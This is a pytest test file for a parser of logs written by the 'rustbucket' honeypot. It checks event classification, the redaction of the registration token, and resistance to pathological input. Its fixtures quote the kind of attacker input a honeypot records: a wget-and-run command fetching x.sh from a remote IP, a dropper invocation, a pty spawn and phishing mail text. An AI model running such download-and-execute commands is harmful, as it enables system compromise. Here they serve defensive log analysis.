"""The real rustbucket's log, line by line: every message shape its handlers write.

The lines are built from the format strings and `info!` fields of jamesbinford/rustbucket's
source (`src/main.rs`, `registration.rs`, `s3_logger.rs`, `protocols/*.rs`, `chatgpt.rs`,
`llm/*.rs`), as tracing-subscriber's `fmt` layer writes them: the text layout with ANSI off
(the daily-file versions, values formatted into the message) and the JSON layout (the later
versions, fixed messages with structured fields).
"""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import orjson
import pytest

from rbr_parser.formats import ParseContext
from rbr_parser.lines import iter_lines
from rbr_parser.records import Record, RecordReader
from rbr_parser.rustbucket import rust_option
from rbr_parser.sanitize import REDACTED
from rbr_testing.rustbucket_logs import Layout, RustbucketLog

TOKEN = "Q7fL2mN9pR4sT6vX8zA1bC3dE5gH7jK0"  # a honeypot's registration token


def parse(data: bytes) -> list[Record]:
    reader = RecordReader(ParseContext(reference_time=datetime(2025, 12, 13, tzinfo=UTC)))
    return list(reader.records(iter_lines([data], 1 << 20)))


def text(*records: str) -> bytes:
    """Text-layout lines: `<time>  INFO <target>: <message>` (a message may hold newlines)."""
    return "".join(f"2025-12-12T14:00:00.123456Z  INFO {record}\n" for record in records).encode()


def json_line(target: str, message: str, level: str = "INFO", **fields: Any) -> bytes:
    event = {
        "timestamp": "2025-12-12T14:00:00.123456Z",
        "level": level,
        "fields": {"message": message, **fields},
        "target": target,
    }
    return orjson.dumps(event) + b"\n"


COLUMNS = ("event_type", "protocol", "source_ip", "source_port", "username", "password")


def summary(record: Record) -> tuple[Any, ...]:
    return tuple(record.fields[column] for column in COLUMNS)


# -- text layout: the values formatted into the message ------------------------------------------


def test_ssh_connection_credentials_and_session_in_the_text_layout() -> None:
    client = "client: 203.0.113.9:51234"
    records = parse(
        text(
            "rustbucket::protocols::ssh: New SSH connection from: 203.0.113.9:51234",
            f"rustbucket::protocols::ssh: SSH password auth attempt - {client}, user: root, "
            "password: hunter 2, or 3",
            f"rustbucket::protocols::ssh: SSH publickey auth attempt - {client}, user: git, "
            "key_type: ssh-ed25519, fingerprint: SHA256:Jm3d2x0i1Sd5Y8uPq2k0b7v3Ww6zJ0e",
            f"rustbucket::protocols::ssh: SSH channel opened - {client}",
            f"rustbucket::protocols::ssh: SSH PTY request - {client}, term: xterm-256color, "
            "size: 80x24",
            f"rustbucket::protocols::ssh: SSH env request - {client}, LANG=C.UTF-8",
            f"rustbucket::protocols::ssh: SSH shell request - {client}",
            f"rustbucket::protocols::ssh: SSH window change - {client}, new size: 120x40",
            f"rustbucket::protocols::ssh: SSH subsystem request - {client}, subsystem: sftp",
            f"rustbucket::protocols::ssh: SSH channel closed - {client}",
            f"rustbucket::protocols::ssh: SSH session ended - {client}, commands: 3, "
            "llm_calls: 1, duration: 12.034187215s",
            "rustbucket::protocols::ssh: SSH rate limit: [2001:db8::7]:2222 - Connection rate "
            "exceeded",
        )
    )
    ssh = ("ssh", "203.0.113.9", 51234)
    assert [summary(r) for r in records] == [
        ("connect", *ssh, None, None),
        ("login_attempt", *ssh, "root", "hunter 2, or 3"),
        ("login_attempt", *ssh, "git", None),
        *[("session", *ssh, None, None)] * 7,
        ("disconnect", *ssh, None, None),
        ("rate_limited", "ssh", "2001:db8::7", 2222, None, None),
    ]
    assert records[0].fields["native_type"] == "rustbucket::protocols::ssh"
    assert records[0].fields["event_time"] == datetime(2025, 12, 12, 14, 0, 0, 123456, tzinfo=UTC)


def test_ssh_commands_and_how_they_were_answered_in_the_text_layout() -> None:
    records = parse(
        text(
            "rustbucket::protocols::ssh: SSH exec request - client: 203.0.113.9:51234, command: "
            "cd /tmp; wget http://198.51.100.7/x.sh\nsh x.sh",
            "rustbucket::protocols::ssh_shell: SSH command received: uname -a",
            "rustbucket::protocols::ssh_shell: SSH: Using native response for command: uname -a",
            "rustbucket::protocols::ssh_shell: SSH command received: nvidia-smi",
            "rustbucket::protocols::ssh_shell: SSH: Unknown command, incrementing counter: "
            "nvidia-smi",
            "rustbucket::protocols::ssh_shell: SSH command received: python3 -c 'import pty'",
            "rustbucket::protocols::ssh_shell: SSH: Escalating to LLM for command: python3 -c "
            "'import pty'",
        )
        + b"2025-12-12T14:00:01.000001Z ERROR rustbucket::protocols::ssh_shell: LLM error: "
        b"Failed to get a successful response from ChatGPT\n"
    )
    fields = [r.fields for r in records]
    assert [(f["event_type"], f["protocol"], f["command"]) for f in fields] == [
        ("command", "ssh", "cd /tmp; wget http://198.51.100.7/x.sh\nsh x.sh"),
        ("command", "ssh", "uname -a"),
        ("response", "ssh", None),  # the command is counted once: on the record it came in
        ("command", "ssh", "nvidia-smi"),
        ("response", "ssh", None),
        ("command", "ssh", "python3 -c 'import pty'"),
        ("llm_escalation", "ssh", None),
        ("error", None, None),
    ]
    assert fields[0]["source_ip"] == "203.0.113.9"
    assert fields[6]["message"] == "SSH: Escalating to LLM for command: python3 -c 'import pty'"


def test_ftp_session_in_the_text_layout() -> None:
    records = parse(
        text(
            "rustbucket: Actor attempted to connect - FTP",
            "rustbucket::protocols::ftp: FTP handler started",
            "rustbucket::protocols: FTP command received: USER admin",
            "rustbucket::protocols::ftp: FTP USER: ADMIN",
            "rustbucket::protocols: FTP: Using native response for command: USER admin",
            "rustbucket::protocols: FTP command received: PASS p@ss (username: x)",
            'rustbucket::protocols::ftp: FTP PASS: P@SS (USERNAME: X) (username: Some("ADMIN"))',
            "rustbucket::protocols::ftp: FTP PASS: ANONYMOUS (username: None)",
            "rustbucket::protocols: FTP command received: STOR evil.sh",
            "rustbucket::protocols::ftp: FTP STOR attempt: EVIL.SH",
            "rustbucket::protocols: FTP: Escalating to LLM for command: SITE EXEC id",
            "rustbucket::protocols: FTP connection closed",
            "rustbucket::protocols: FTP session ended. Commands: 4, LLM calls: 1, Duration: "
            "4.001292s, Tarpit: 4 interactions, 1350ms total delay",
        )
    )
    assert [summary(r) for r in records] == [
        ("connect", "ftp", None, None, None, None),
        ("connect", "ftp", None, None, None, None),
        ("command", "ftp", None, None, None, None),
        ("session", "ftp", None, None, None, None),
        ("response", "ftp", None, None, None, None),
        ("command", "ftp", None, None, None, None),
        ("login_attempt", "ftp", None, None, "ADMIN", "P@SS (USERNAME: X)"),
        ("login_attempt", "ftp", None, None, None, "ANONYMOUS"),
        ("command", "ftp", None, None, None, None),
        ("upload", "ftp", None, None, None, None),
        ("llm_escalation", "ftp", None, None, None, None),
        ("disconnect", "ftp", None, None, None, None),
        ("disconnect", "ftp", None, None, None, None),
    ]
    assert records[2].fields["command"] == "USER admin"


def test_smtp_session_and_its_mail_in_the_text_layout() -> None:
    records = parse(
        text(
            "rustbucket::protocols::smtp: SMTP handler started",
            "rustbucket::protocols: SMTP command received: MAIL FROM:<spam@example.org>",
            "rustbucket::protocols::smtp: SMTP MAIL FROM: <SPAM@EXAMPLE.ORG>",
            "rustbucket::protocols::smtp: SMTP RCPT TO: <VICTIM@EXAMPLE.NET>",
            "rustbucket::protocols: SMTP command received: Subject: invoice",
            "rustbucket::protocols::smtp: SMTP email data received:\nSubject: invoice\n"
            "Click http://198.51.100.9/pay\n",
            "rustbucket::protocols: SMTP session ended. Commands: 6, LLM calls: 0, Duration: 3.2s",
        )
    )
    assert [(r.fields["event_type"], r.fields["protocol"]) for r in records] == [
        ("connect", "smtp"),
        ("command", "smtp"),
        ("session", "smtp"),
        ("session", "smtp"),
        ("command", "smtp"),
        ("data_received", "smtp"),
        ("disconnect", "smtp"),
    ]
    assert records[5].fields["message"] == (
        "SMTP email data received:\nSubject: invoice\nClick http://198.51.100.9/pay\n"
    )


def test_http_request_in_the_text_layout() -> None:
    records = parse(
        text(
            "rustbucket: Actor attempted to connect - HTTP",
            "rustbucket::protocols::http: HTTP request received:\nPOST /cgi-bin/luci HTTP/1.1\r\n"
            'Host: 10.0.0.5\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n{"cmd": "id"}',
            "rustbucket::protocols::http: HTTP POST /cgi-bin/luci",
            "rustbucket::protocols::http: HTTP: Escalating to LLM for POST /cgi-bin/luci",
            "rustbucket::protocols::http: HTTP: Using native response for GET /.env",
            "rustbucket::protocols::http: HTTP: Unknown path, incrementing counter: /x.php",
            "rustbucket::protocols::http: HTTP connection closed immediately",
            "rustbucket::protocols::http: HTTP session ended. Requests: 1, LLM calls: 1, "
            "Duration: 801.3µs",
        )
    )
    fields = [r.fields for r in records]
    assert [(f["event_type"], f["http_method"], f["url"]) for f in fields] == [
        ("connect", None, None),
        ("data_received", "POST", "/cgi-bin/luci"),
        ("http_request", "POST", "/cgi-bin/luci"),
        ("llm_escalation", "POST", "/cgi-bin/luci"),
        ("response", "GET", "/.env"),
        ("response", None, "/x.php"),
        ("disconnect", None, None),
        ("disconnect", None, None),
    ]
    assert {f["protocol"] for f in fields} == {"http"}
    assert fields[1]["user_agent"] == "Mozilla/5.0 zgrab/0.x"
    assert fields[1]["message"].endswith('\n\n{"cmd": "id"}')


def test_listener_rejections_and_the_first_versions_handler_in_the_text_layout() -> None:
    records = parse(
        text(
            "rustbucket: Connection rejected from [2001:db8::9]:40001: IP is temporarily banned",
            "rustbucket: Actor attempted to connect to port 25 - SMTP",
            "rustbucket::handler: Received data: EHLO scanner.example\r",
            "rustbucket::chatgpt: We sent this to ChatGPT: ChatGPTRequest { model: "
            '"gpt-3.5-turbo", messages: [Message { role: "user", content: "EHLO x" }] }',
            "rustbucket::chatgpt: ChatGPT responded: 250 mail.example.com\n",
            "rustbucket::handler: Response message: 250 mail.example.com",
            "rustbucket::handler: Connection closed",
        )
    )
    assert [summary(r)[:4] for r in records] == [
        ("rate_limited", None, "2001:db8::9", 40001),
        ("connect", "smtp", None, None),
        ("data_received", None, None, None),
        ("llm_request", None, None, None),
        ("response", None, None, None),
        ("response", None, None, None),
        ("disconnect", None, None, None),
    ]


def test_start_up_and_operational_records_are_system_and_errors_error() -> None:
    records = parse(
        text(
            "rustbucket: Tracing initialized",
            "rustbucket: Instance name: rustbucket-k3Vb9QzA",
            "rustbucket::s3_logger: S3 uploader: Starting log upload check",
            "rustbucket::registration: Posting registration data to URL: https://r.example/",
        )
        + b"2025-12-12T14:00:00.2Z ERROR rustbucket::registration: Registration failed: Bad URL "
        b"(404 Not Found) for https://r.example/. Server response: Not Found\n"
        b"2025-12-12T14:00:00.3Z  WARN rustbucket: an unknown message\n"
    )
    assert [(r.fields["event_type"], r.fields["level"]) for r in records] == [
        ("system", "INFO"),
        ("system", "INFO"),
        ("system", "INFO"),
        ("system", "INFO"),
        ("error", "ERROR"),
        ("system", "WARN"),
    ]


def test_ansi_colours_and_span_fields_in_the_text_layout() -> None:
    coloured = (
        b"\x1b[2m2025-12-12T14:00:00.123456Z\x1b[0m \x1b[32m INFO\x1b[0m "
        b"\x1b[2mrustbucket::protocols::ssh\x1b[0m\x1b[2m:\x1b[0m New SSH connection from: "
        b"203.0.113.9:51234\n"
    )
    spans = (
        b"2025-12-12T14:00:00.123456Z  INFO conn{client_ip=198.51.100.4:6000 peer=x}:auth: "
        b"rustbucket::protocols::ssh: Authentication attempt "
        b'event_type="auth" protocol="SSH" username=root password=toor auth_method="password"\n'
    )
    first, second = parse(coloured + spans)
    assert summary(first) == ("connect", "ssh", "203.0.113.9", 51234, None, None)
    assert summary(second) == ("login_attempt", "ssh", "198.51.100.4", 6000, "root", "toor")
    assert second.fields["native_type"] == "rustbucket::protocols::ssh"


# -- JSON layout: fixed messages and structured fields --------------------------------------------


def test_json_ssh_session_from_its_fields() -> None:
    ssh = {"protocol": "SSH", "client_ip": "203.0.113.9:51234"}
    target = "rustbucket::protocols::ssh"
    records = parse(
        json_line(target, "New SSH connection", event_type="connection", **ssh)
        + json_line(
            target,
            "Authentication attempt",
            event_type="auth",
            **ssh,
            username="root",
            password='p" password=x',
            auth_method="password",
        )
        + json_line(
            target,
            "Authentication attempt",
            event_type="auth",
            **ssh,
            username="git",
            auth_method="publickey",
            key_type="ssh-ed25519",
            fingerprint="SHA256:Jm3d2x0i1Sd5Y8uPq2k0b7v3Ww6zJ0e",
        )
        + json_line(target, "PTY request", event_type="connection", **ssh, width=80, height=24)
        + json_line(target, "Exec request", event_type="command", **ssh, command="id\nuname -a")
        + json_line(target, "Rate limit exceeded", event_type="operational", **ssh, reason="x")
        + json_line(
            target,
            "Session ended",
            event_type="session",
            **ssh,
            commands_processed=1,
            llm_calls_made=0,
            duration_secs=3,
        )
        + json_line(target, "SSH session error", "ERROR", protocol="SSH", error="Disconnect")
    )
    client = ("ssh", "203.0.113.9", 51234)
    assert [summary(r) for r in records] == [
        ("connect", *client, None, None),
        ("login_attempt", *client, "root", 'p" password=x'),
        ("login_attempt", *client, "git", None),
        ("session", *client, None, None),
        ("command", *client, None, None),
        ("rate_limited", *client, None, None),
        ("disconnect", *client, None, None),
        ("error", "ssh", None, None, None, None),
    ]
    assert records[4].fields["command"] == "id\nuname -a"
    assert records[0].fields["message"] == (
        "New SSH connection event_type=connection protocol=SSH client_ip=203.0.113.9:51234"
    )
    assert records[0].fields["level"] == "INFO"
    assert records[0].fields["event_time"] == datetime(2025, 12, 12, 14, 0, 0, 123456, tzinfo=UTC)


def test_json_command_loops_and_llm_escalation() -> None:
    shell, loop, ftp = (
        "rustbucket::protocols::ssh_shell",
        "rustbucket::protocols",
        ("rustbucket::protocols::ftp"),
    )
    records = parse(
        json_line(shell, "Command received", event_type="command", protocol="SSH", command="w")
        + json_line(
            shell,
            "LLM escalation",
            event_type="llm",
            protocol="SSH",
            command="w",
            decision="escalate",
        )
        + json_line(
            "rustbucket::llm::claude",
            "Claude protocol-specific request",
            event_type="llm",
            provider="claude",
            model="claude-3-haiku-20240307",
            protocol="Ssh",
            user_message="w",
        )
        + json_line(
            "rustbucket::llm::claude",
            "Claude response received",
            event_type="llm",
            provider="claude",
            response=" 10:30:42 up  1:23,  1 user",
        )
        + json_line(shell, "LLM error", "ERROR", event_type="llm", protocol="SSH", error="x")
        + json_line(loop, "Unknown command", event_type="command", protocol="FTP", command="X")
        + json_line(ftp, "Username provided", event_type="auth", protocol="FTP", username="ADMIN")
        + json_line(
            ftp,
            "Authentication attempt",
            event_type="auth",
            protocol="FTP",
            username=rust_debug('AD"MIN'),
            password="SECRET",
        )
        + json_line(
            ftp,
            "Authentication attempt",
            event_type="auth",
            protocol="FTP",
            username="None",
            password="X",
        )
        + json_line(ftp, "File upload attempt", event_type="command", protocol="FTP", filename="a")
    )
    assert [summary(r)[:2] + summary(r)[4:] for r in records] == [
        ("command", "ssh", None, None),
        ("llm_escalation", "ssh", None, None),
        ("llm_request", "ssh", None, None),
        ("response", None, None, None),
        ("error", "ssh", None, None),
        ("response", "ftp", None, None),
        ("session", "ftp", None, None),
        ("login_attempt", "ftp", 'AD"MIN', "SECRET"),
        ("login_attempt", "ftp", None, "X"),
        ("upload", "ftp", None, None),
    ]
    assert records[0].fields["command"] == "w"
    assert records[1].fields["command"] is None  # counted once, on `Command received`


def rust_debug(value: str) -> str:
    return 'Some("' + value.replace("\\", "\\\\").replace('"', '\\"') + '")'


def test_json_http_smtp_and_listener_records() -> None:
    http = "rustbucket::protocols::http"
    request = "GET /wp-login.php HTTP/1.1\r\nHost: x\r\nuser-agent: curl/8.5.0\r\n\r\n"
    records = parse(
        json_line(
            "rustbucket",
            "New connection",
            event_type="connection",
            protocol="HTTP",
            client_ip="198.51.100.6",
        )
        + json_line(http, "Handler started", event_type="connection", protocol="HTTP")
        + json_line(
            http, "Request received", event_type="command", protocol="HTTP", request=request
        )
        + json_line(
            http,
            "Request parsed",
            event_type="command",
            protocol="HTTP",
            method="GET",
            path="/wp-login.php",
        )
        + json_line(
            http,
            "Using native response",
            event_type="response",
            protocol="HTTP",
            method="GET",
            path="/wp-login.php",
            response_type="native",
        )
        + json_line(
            "rustbucket::protocols::smtp",
            "Email data received",
            event_type="command",
            protocol="SMTP",
            mail_from='Some("<A@B.C>")',
            rcpt_to='["<V@D.E>"]',
            email_data="Subject: x\n",
        )
        + json_line(
            "rustbucket",
            "Connection rejected",
            event_type="connection",
            client_ip="[2001:db8::9]:40001",
            reason="IP is temporarily banned",
        )
        + json_line(
            "rustbucket::rate_limiter",
            "Connection blocked",
            event_type="connection",
            component="rate_limiter",
            client_ip="198.51.100.23",
            reason="rate_exceeded",
        )
        + json_line("rustbucket", "Instance started", event_type="operational", instance_name="x")
    )
    fields = [r.fields for r in records]
    assert [(f["event_type"], f["source_ip"], f["http_method"], f["url"]) for f in fields] == [
        ("connect", "198.51.100.6", None, None),
        ("connect", None, None, None),
        ("data_received", None, "GET", "/wp-login.php"),
        ("http_request", None, "GET", "/wp-login.php"),
        ("response", None, "GET", "/wp-login.php"),
        ("data_received", None, None, None),
        ("rate_limited", "2001:db8::9", None, None),
        ("rate_limited", "198.51.100.23", None, None),
        ("system", None, None, None),
    ]
    assert fields[2]["user_agent"] == "curl/8.5.0"
    assert fields[6]["source_port"] == 40001
    assert all(f["log_format"] == "rustbucket" for f in fields)


def test_json_lines_that_are_not_records_stay_unparsed_or_continue_text() -> None:
    cut = b'{"timestamp":"2025-12-12T14:00:00.123456Z","level":"INFO","fields":{"messa\n'
    not_tracing = b'{"timestamp":"2025-12-12T14:00:00Z","level":"LOUD","fields":{}}\n'
    records = parse(text("rustbucket: Tracing initialized") + cut + not_tracing)
    assert [(r.fields["log_format"], r.fields["event_type"]) for r in records] == [
        ("rustbucket", "system"),
        ("unknown", "unparsed"),
        ("unknown", "unparsed"),
    ]


def test_rust_option_debug() -> None:
    assert rust_option('Some("a\\"b\\\\c\\u{1b}\\n")') == 'a"b\\c\x1b\n'
    assert rust_option("None") is None
    assert rust_option("plain") == "plain"


# -- the honeypot's token -----------------------------------------------------------------------


def test_the_registration_token_is_redacted_from_text_records_and_raw() -> None:
    records = parse(
        text(
            f"rustbucket::registration: Generated instance token: {TOKEN}",
            f"rustbucket::registration: Generated instance token for debugging: {TOKEN}x",
            "rustbucket::registration: Registration payload: RegistrationPayload { name: "
            f'"rustbucket-P0aZ7mWq", ip_address: "0.0.0.0", operating_system: "linux (x86_64)", '
            f'token: "{TOKEN}", cpu_usage: None, memory_usage: None, disk_space: None, '
            "uptime: None, connections: None }",
            "rustbucket::registration: Registration attempt to https://r.example/ returned "
            "unexpected status: 400 Bad Request. Server response: "
            f'{{"name":"rustbucket-P0aZ7mWq","token": "{TOKEN}"}}',
            f"rustbucket::registration: Error details - url: https://r.example/?t={TOKEN}",
            "rustbucket::protocols::http: HTTP request received:\nPOST / HTTP/1.1\r\n\r\n"
            '{"token":"attacker-chosen-1"}',
        )
    )
    everything = "".join(r.raw + str(r.fields) for r in records)
    assert TOKEN not in everything
    assert records[0].fields["message"] == f"Generated instance token: {REDACTED}"
    assert records[0].raw.endswith(f"Generated instance token: {REDACTED}")
    assert f'token: "{REDACTED}", cpu_usage' in records[2].raw
    assert f'"token": "{REDACTED}"' in records[3].raw
    # The token seen once is removed wherever it appears again in the object.
    assert records[4].raw.endswith(f"?t={REDACTED}")
    # An attacker's own `"token"` in a request is their data, kept.
    assert '{"token":"attacker-chosen-1"}' in records[5].raw
    assert [r.fields["event_type"] for r in records] == ["system"] * 5 + ["data_received"]


def test_an_attacker_cannot_make_the_parser_censor_their_later_commands() -> None:
    records = parse(
        text(
            "rustbucket::protocols::ssh_shell: SSH command received: echo Generated instance "
            "token: /tmp/.x/dropper-v2",
            "rustbucket::protocols::ssh_shell: SSH command received: sh /tmp/.x/dropper-v2",
        )
    )
    assert records[1].fields["command"] == "sh /tmp/.x/dropper-v2"


def test_the_registration_token_is_redacted_from_json_records_and_raw() -> None:
    payload = (
        'RegistrationPayload { name: "rustbucket-P0aZ7mWq", ip_address: "0.0.0.0", '
        f'operating_system: "linux (x86_64)", token: "{TOKEN}" }}'
    )
    records = parse(
        json_line("rustbucket::registration", f"Registration payload: {payload}")
        + json_line("rustbucket::registration", "Generated instance token", token=TOKEN)
        + json_line("rustbucket::registration", f"Server response: {TOKEN}")
    )
    assert len(records) == 3
    for record in records:
        assert TOKEN not in record.raw
        assert TOKEN not in str(record.fields)
        assert orjson.loads(record.raw)["level"] == "INFO"  # still the record it was
    assert f'token: \\"{REDACTED}\\" }}' in records[0].raw
    assert records[1].fields["message"] == f"Generated instance token token={REDACTED}"


# -- the stand-in's files, parsed whole ----------------------------------------------------------


@pytest.mark.parametrize("layout", list(Layout))
def test_a_stand_in_honeypots_day_parses_to_its_events_without_its_token(
    tmp_path: Path, layout: Layout
) -> None:
    log = RustbucketLog(tmp_path, "rustbucket-k3Vb9QzA", layout)
    at = log.start(
        datetime(2025, 12, 12, 9, tzinfo=UTC),
        registry_url="https://registry.example.net/api/register",
        registered_name="rustbucket-P0aZ7mWq",
        token=TOKEN,
        registration_status=422,
        registry_answer=f'{{"detail":"ip_address","token":"{TOKEN}"}}',
        s3_bucket="honeypot-logs",
    )
    at = log.ssh_session(
        at,
        ip="203.0.113.9",
        port=51234,
        username="root",
        password="hunter2",
        commands=[("uname -a", "native"), ("nvidia-smi", "unknown"), ("perl -e x", "llm")],
    )
    at = log.ftp_session(at, ip="198.51.100.4", port=4000, username="anonymous", password="me@x")
    at = log.smtp_session(
        at, ip="198.51.100.5", port=4001, mail_from="<a@b.c>", rcpt_to="<v@d.e>", body=["Hi"]
    )
    at = log.http_request(
        at, ip="198.51.100.6", port=4002, request="GET /.env HTTP/1.1\r\nHost: x\r\n\r\n"
    )
    log.connection_rejected(at, "198.51.100.23", 40001, "Connection rate exceeded")
    log.upload_check(at)

    records = parse(b"".join(path.read_bytes() for path in log.written))
    assert all(TOKEN not in r.raw + str(r.fields) for r in records)
    assert all(r.fields["log_format"] == "rustbucket" for r in records)
    kinds = [r.fields["event_type"] for r in records]
    logins = [(f["protocol"], f["username"], f["password"]) for f in _of(records, "login_attempt")]
    assert logins == [("ssh", "root", "hunter2"), ("ftp", "ANONYMOUS", "ME@X")]
    commands = [f["command"] for f in _of(records, "command")]
    assert commands[:3] == ["uname -a", "nvidia-smi", "perl -e x"]
    assert kinds.count("llm_escalation") == 1
    assert [f["url"] for f in _of(records, "http_request")] == ["/.env"]
    assert [f["source_ip"] for f in _of(records, "rate_limited")] == ["198.51.100.23"]
    assert "unparsed" not in kinds


def _of(records: list[Record], event_type: str) -> list[dict[str, Any]]:
    return [r.fields for r in records if r.fields["event_type"] == event_type]


HOSTILE = [
    b"a{b}:" * 200_000,  # a span prefix that never ends: was retried from every span
    b"a:" * 500_000,
    b"rustbucket::protocols::ftp: FTP PASS: " + b' (username: Some("' * 50_000,
    b"rustbucket::registration: Registration " + b'"token":\\"' * 90_000,
    b"rustbucket::protocols::ssh: Authentication attempt " + b"username= password=" * 50_000,
]


@pytest.mark.parametrize("body", HOSTILE, ids=lambda b: repr(b[:24]))
def test_hostile_records_cost_linear_time(body: bytes) -> None:
    # No clock here but pytest's timeout: quadratic work on a 1 MiB record takes minutes.
    (record,) = parse(b"2025-12-12T14:00:00.123456Z  INFO " + body + b"\n")
    assert record.fields["log_format"] == "rustbucket"
